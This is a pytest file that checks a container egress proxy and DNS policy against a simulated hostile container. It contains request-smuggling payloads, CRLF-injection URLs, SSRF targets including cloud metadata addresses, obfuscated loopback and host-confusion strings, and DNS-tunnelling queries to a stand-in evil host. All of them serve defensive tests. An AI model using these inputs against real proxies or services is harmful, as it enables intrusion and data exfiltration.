"""What a hostile container tries. It reaches nobody, asks no name server, and is recorded.

``www.example.com`` and everything below ``example.org`` are allowed; ``evil.example.net`` runs its
own server, which is reachable from this host, and its own name server.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import subprocess
from collections.abc import Iterator

import pytest

from tests.unit.egress_world import CONTAINER, GATEWAY, OTHER, PUBLIC, Web, World, receive_all
from tests.unit.test_network_names import TXT, A, address, query, status
from tests.unit.test_network_sniff import client_hello
from vmrun.network.frames import Endpoint
from vmrun.policy.addresses import denied_range, parse_address
from vmrun.policy.egress import canonical_host

HOST = "www.example.com"
EVIL = "evil.example.net"
EVIL_ADDRESS = "93.184.216.66"


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[Web, Web]]:
    both = Web(), Web()
    yield both
    for server in both:
        server.shutdown()


@pytest.fixture
def good(servers: tuple[Web, Web]) -> Web:
    return servers[0].fresh()


@pytest.fixture
def evil(servers: tuple[Web, Web]) -> Web:
    return servers[1].fresh()


@pytest.fixture
def world(good: Web, evil: Web) -> Iterator[World]:
    """Every address that is not ``www.example.com``'s, private ones too, leads to evil's server:
    what is not stopped before it connects is seen there."""

    class Everywhere(dict[tuple[str, int], int]):
        def __missing__(self, there: tuple[str, int]) -> int:
            return evil.port

        def __contains__(self, _: object) -> bool:
            return True

    made = World(
        HOST, f"{HOST}:8080", "*.example.org", hosts={HOST: [PUBLIC], EVIL: [EVIL_ADDRESS]}
    )
    made.servers = Everywhere(
        {(PUBLIC, 80): good.port, (PUBLIC, 443): good.port, (PUBLIC, 8080): good.port}
    )
    yield made
    made.close()


def proxy(world: World, data: bytes) -> bytes:
    with world.open(GATEWAY, 3128) as client:
        client.sendall(data)
        return receive_all(client)


def connect(world: World, authority: str) -> bytes:
    return proxy(world, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())


def socks(world: World, name: bytes, port: int) -> int:
    with world.open(GATEWAY, 1080) as client:
        client.sendall(
            b"\x05\x01\0\x05\x01\0\x03" + bytes((len(name),)) + name + struct.pack("!H", port)
        )
        return receive_all(client)[3]


def direct(world: World, there: str, port: int, data: bytes) -> bytes:
    with world.open(there, port) as client:
        with contextlib.suppress(OSError):
            client.sendall(data)
            client.shutdown(socket.SHUT_WR)
        return receive_all(client)


def ask(world: World, name: str, kind: int = A) -> bytes | None:
    return world.egress.datagram(Endpoint(CONTAINER, 5353), query(name, kind))


# Names that carry data.


def test_dns_is_no_tunnel(world: World) -> None:
    for number in range(300):
        label = f"{number:03}" + "6578666c7472617465"[:40] * 3
        for kind in (A, TXT, 5, 10, 33):
            assert status(ask(world, f"{label}.t.{EVIL}", kind)) == 3
    assert world.resolved == []
    assert len(world.events) <= 40


def test_dns_below_a_wildcard_asks_nobody(world: World) -> None:
    for number in range(50):
        assert address(ask(world, f"x{number}.{'a' * 60}.example.org")) is not None
        assert address(ask(world, f"x{number}.example.org", TXT)) is None
    assert world.resolved == []


def test_many_denials_are_few_lines(world: World) -> None:
    for number in range(2000):
        ask(world, f"a{number}.{EVIL}")
    before = len(world.events)
    world.egress.close()
    assert before <= 40
    total = sum(int(event.fields.get("repeated", 1)) for event in world.events)
    assert total == 2000


# Names that change or lie.


def test_rebinding_connects_to_what_was_judged(world: World, evil: Web) -> None:
    answers = [(PUBLIC,), ("127.0.0.1",), ("169.254.169.254",)]

    def resolve(name: str) -> tuple[str, ...]:
        world.resolved.append(name)
        return answers.pop(0)

    world.egress._ways.dialer._resolve = resolve
    request = f"GET http://{HOST}/ HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    assert proxy(world, request).startswith(b"HTTP/1.1 200")
    assert len(world.resolved) == 1
    assert proxy(world, request).startswith(b"HTTP/1.1 403")
    assert proxy(world, request).startswith(b"HTTP/1.1 403")
    assert world.connected == [(PUBLIC, 80)]
    assert world.denied() == ["loopback", "link-local"]


def test_of_a_mixed_answer_only_public_addresses_count(world: World) -> None:
    world.hosts[HOST] = ("10.0.0.5", "127.0.0.1", PUBLIC, "fd00::1", "nonsense", "fe80::1%eth0")
    request = f"GET http://{HOST}/ HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    assert proxy(world, request).startswith(b"HTTP/1.1 200")
    assert world.connected == [(PUBLIC, 80)]
    assert sorted(world.denied()) == sorted(
        ["private", "loopback", "private", "not an address", "not an address"]
    )


@pytest.mark.parametrize(
    "found",
    [
        "127.0.0.1", "0.0.0.0", "10.0.0.1", "169.254.169.254", "100.100.100.200", "168.63.129.16",
        "::1", "::", "fd00:ec2::254", "::ffff:169.254.169.254", "::ffff:93.184.216.66",
        "::169.254.169.254", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::1",
        "2001:0:a9fe:a9fe::1", "fe80::1", "ff02::1", "fec0::1", "198.18.0.1", "224.0.0.1",
        "255.255.255.255", "240.0.0.1", "192.0.0.192", "2001:db8::1", "3fff::1", "5f00::1",
    ],
)  # fmt: skip
def test_an_allowed_name_does_not_lead_inside(world: World, evil: Web, found: str) -> None:
    world.hosts[HOST] = (found,)
    assert connect(world, f"{HOST}:443").startswith(b"HTTP/1.1 403")
    assert socks(world, HOST.encode(), 443) == 2
    assert direct(world, address(ask(world, HOST)) or "", 443, client_hello(HOST)) == b""
    assert (world.connected, evil.asked) == ([], [])
    assert len(world.denied()) == 3


@pytest.mark.parametrize(
    "name",
    [
        "127.0.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001",
        "127.1",
        "127.0.1", "127.000.000.001", "0", "0.0.0.0", "localhost", "LOCALHOST", "localhost.",
        "a.localhost", "ip6-localhost", "gateway", "10.88.0.1", "169.254.169.254",
        "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "metadata.google.internal",
        "[::1]", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[fe80::1%25lo]",
        "[fe80::1%lo]", "[0:0:0:0:0:0:0:1]", "[fd00:ec2::254]", "93.184.216.66", "[2606:4700::66]",
        EVIL, "evil.example.net.", "EVIL.example.net", f"{HOST}.{EVIL}", f"{EVIL}%00.{HOST}",
        f"{HOST}%00.{EVIL}", f"{HOST}@{EVIL}", f"{EVIL}@{HOST}", f"{HOST}#{EVIL}",
        f"{HOST}\\{EVIL}",
        "example.org", "evil-example.org", "evilexample.org", f"example.org.{EVIL}", ".example.org",
        "..example.org", "*.example.org", "a..example.org", "xwww.example.com", "example.com",
        "www.example.com..", "www.example.co", "www.example.com.example.org.evil.example.net",
        "www。example。com", "ｗｗｗ.example.com", "1.1.1.1.", "0x5db8d842",
    ],
)  # fmt: skip
def test_no_form_of_another_name_is_allowed(world: World, evil: Web, name: str) -> None:
    assert connect(world, f"{name}:443")[:12] in (b"HTTP/1.1 403", b"HTTP/1.1 400")
    assert connect(world, f"{name}:80")[:12] in (b"HTTP/1.1 403", b"HTTP/1.1 400")
    request = f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
    assert proxy(world, request)[:12] in (b"HTTP/1.1 403", b"HTTP/1.1 400")
    assert socks(world, name.encode(), 443) == 2
    if ".." not in name:  # which no query can say
        assert address(ask(world, name.encode().decode("latin-1"))) is None
    assert (world.connected, world.resolved, evil.asked) == ([], [], [])
    assert world.denied()


@pytest.mark.parametrize("name", ["WWW.EXAMPLE.COM", "www.example.com.", "wWw.eXample.Com."])
def test_another_spelling_of_an_allowed_name_is_that_name(world: World, name: str) -> None:
    request = f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
    assert proxy(world, request).startswith(b"HTTP/1.1 200")
    assert world.resolved == [HOST]
    assert address(ask(world, name)) == address(ask(world, HOST))


# Addresses instead of names.


@pytest.mark.parametrize(
    "there",
    [PUBLIC, EVIL_ADDRESS, OTHER, "127.0.0.1", "169.254.169.254", "10.88.0.3", "0.0.0.0",
     "198.18.0.200", "198.19.255.255", "255.255.255.255", "::1", "::ffff:127.0.0.1", "nonsense"],
)  # fmt: skip
@pytest.mark.parametrize("port", [80, 443, 8080, 3128, 53])
def test_no_address_is_allowed_without_a_rule(
    world: World, evil: Web, there: str, port: int
) -> None:
    """Not even the address of an allowed name: behind it may be others."""
    assert direct(world, there, port, b"GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n") == b""
    assert (world.connected, evil.asked) == ([], [])
    assert len(world.denied()) == 1


def test_another_port_of_an_allowed_name_is_not(world: World) -> None:
    for port in (22, 25, 3128, 53, 8443):
        assert connect(world, f"{HOST}:{port}").startswith(b"HTTP/1.1 403")
        assert socks(world, HOST.encode(), port) == 2
    assert world.connected == []


# Another host behind an allowed one.


@pytest.mark.parametrize("port", [443, 8080])
def test_tls_is_for_the_name(world: World, good: Web, port: int) -> None:
    there = address(ask(world, HOST)) or ""
    assert direct(world, there, port, client_hello(EVIL)).startswith(b"\x15\x03")
    assert direct(world, there, port, client_hello(None)).startswith(b"\x15\x03")
    assert world.denied() == ["the TLS server name is another one", "TLS without a server name"]


@pytest.mark.parametrize("port", [80, 8080])
def test_http_is_for_the_name(world: World, good: Web, port: int) -> None:
    there = address(ask(world, HOST)) or ""
    for data in (
        f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
        f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {HOST}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nHost: {EVIL}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\tx\r\nHost: {EVIL}\r\n\r\n",
        f"\r\nGET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
        f"GET / HTTP/1.1\nHost: {EVIL}\n\n",
        f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {HOST}\r\n\r\n",
    ):
        direct(world, there, port, data.encode())
    assert good.asked == []
    world.egress.close()
    total = sum(int(e.fields.get("repeated", 1)) for e in world.events if e.event == "network.deny")
    assert total == 7


def test_a_second_request_cannot_hide_behind_the_first(world: World, good: Web) -> None:
    there = address(ask(world, HOST)) or ""
    hidden = f"GET /hidden HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
    first = f"POST /first HTTP/1.1\r\nHost: {HOST}\r\n"
    for data in (
        first + "\r\n" + hidden,
        first + "Content-Length: 0\r\n\r\n" + hidden,
        first + "Content-Length: 4\r\n\r\nabcd" + hidden,
        first + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
        first + "Transfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n" + hidden,
        first + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
        first + "Content-Length: 4\r\nContent-Length: 0\r\n\r\n" + hidden,
        first + "Content-Length : 4\r\n\r\n" + hidden,
        first + "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + hidden,
        first + "Transfer-Encoding: identity\r\n\r\n" + hidden,
        first + "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n" + hidden,
        first + "Transfer-Encoding: chunked\r\n\r\n0;\n\r\n\r\n" + hidden,
        first + "Upgrade: websocket\r\nConnection: upgrade\r\n\r\n" + hidden,
    ):
        direct(world, there, 8080, data.encode())
        proxied = data.replace("POST /first", f"POST http://{HOST}/first", 1)
        proxy(world, proxied.encode())
    assert not any("hidden" in path for _, path, _ in good.asked)
    assert not any(b"hidden" in body for body in good.bodies)
    assert {host for *_, host in good.asked} <= {HOST}


@pytest.mark.parametrize(
    "target",
    [
        f"http://{HOST}/%0d%0aHost:%20{EVIL}",
        f"http://{HOST}/ HTTP/1.1\r\nHost: {EVIL}\r\nX:",
        f"http://{HOST}/\rHost: {EVIL}",
        f"http://{HOST}/\nHost: {EVIL}",
        f"http://{HOST}\t@{EVIL}/",
        f"http://{EVIL}\\@{HOST}/",
        f"http://{HOST}:80@{EVIL}/",
        f"http://{HOST}?@{EVIL}/",
        f"http://{HOST}//{EVIL}/",
    ],
)
def test_a_line_cannot_be_slipped_in(world: World, good: Web, evil: Web, target: str) -> None:
    proxy(world, f"GET {target} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    assert evil.asked == []
    assert {host for *_, host in good.asked} <= {HOST}
    assert {there for there, _ in world.connected} <= {PUBLIC}


def test_a_redirect_is_decided_anew(world: World, good: Web, evil: Web) -> None:
    for location in (
        f"http://{EVIL}/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/",
    ):
        good.redirect = location
        for option in ("--proxy", "--socks5-hostname"):
            port = world.listen(GATEWAY, 3128 if option == "--proxy" else 1080)
            done = subprocess.run(
                ["curl", "-sSL", "--max-time", "10", "--noproxy", "", option, f"127.0.0.1:{port}",
                 "-w", "%{num_redirects}", f"http://{HOST}/"],
                capture_output=True, text=True, timeout=20, check=False,
            )  # fmt: skip
            assert done.stdout.endswith("1"), done
    assert (len(good.asked), evil.asked) == (6, [])
    assert {there for there, _ in world.connected} == {PUBLIC}


def test_what_the_c_library_takes_for_an_address_is_no_name() -> None:
    """Whatever inet_aton(3) reads, a resolver might: none of it is a name here."""
    for text in (
        "1",
        "1.2",
        "1.2.3",
        "01.2.3.4",
        "0x1.2.3.4",
        "1.2.3.0x4",
        "4294967295",
        "0x",
        "1.0x",
    ):
        assert canonical_host(text) is None
        assert parse_address(text) is None


def test_every_ipv4_address_in_ipv6_is_denied() -> None:
    for prefix in ("::ffff:", "::", "64:ff9b::", "64:ff9b:1::", "::ffff:0:"):
        for inside in ("127.0.0.1", "10.0.0.1", "169.254.169.254", PUBLIC):
            found = parse_address(prefix + inside)
            assert found is not None
            assert denied_range(found) is not None
